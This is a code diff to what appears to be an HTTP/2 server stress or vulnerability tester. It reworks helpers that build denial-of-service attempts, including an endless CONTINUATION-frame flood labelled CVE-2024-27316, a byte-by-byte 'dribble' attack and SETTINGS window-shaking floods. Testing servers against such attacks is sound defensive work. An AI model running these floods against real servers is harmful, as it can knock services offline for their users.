@@ -34,11 +34,13 @@ from .intruder import Http2Intruder, forever
 _TIMES: Final = 500  # in one write: some KiB
 
 
-def flood(pieces: Callable[[], Iterable[bytes]]) -> Callable[[Target], Awaitable[str]]:
-    """Return an attempt that sends pieces until the server ends it."""
+def flood(
+    pieces: Callable[[], Iterable[bytes]], *, may_stall: bool = False
+) -> Callable[[Target], Awaitable[str]]:
+    """Return an attempt that sends pieces until the server ends it, or perhaps stops reading."""
 
     async def attempt(target: Target) -> str:
-        return await (await Http2Intruder.open(target)).provoke(pieces())
+        return await (await Http2Intruder.open(target)).provoke(pieces(), may_stall=may_stall)
 
     return attempt
 
@@ -106,7 +108,14 @@ def ask_too_often(stream_id: int) -> bytes:
 
 def continue_for_ever(piece: bytes) -> Callable[[Target], Awaitable[str]]:
     """Return an attempt whose field section never ends."""
-    return again(frame(CONTINUATION, 1, piece), frame(HEADERS, 1, request_block()))
+
+    async def attempt(target: Target) -> str:
+        intruder = await Http2Intruder.open(target)
+        intruder.acknowledges_settings = False
+        begin, more = frame(HEADERS, 1, request_block()), frame(CONTINUATION, 1, piece)
+        return await intruder.provoke(itertools.chain([begin], forever(more, _TIMES)))
+
+    return attempt
 
 
 def bomb() -> Iterator[bytes]:
@@ -214,7 +223,12 @@ ATTACKS: Final = (
         again(window_update(0, 1)),
     ),
     _attack("dribble", "a large answer, fetched byte by byte", _FRAMES, flood(dribble_fast)),
-    _attack("shaken-windows", "SETTINGS that change a hundred windows", _FRAMES, flood(shake_the_windows)),
+    _attack(
+        "shaken-windows",
+        "SETTINGS that change a hundred windows",
+        _FRAMES,
+        flood(shake_the_windows, may_stall=True),
+    ),
     _attack(
         "continuation",
         "CONTINUATION flood (CVE-2024-27316)",
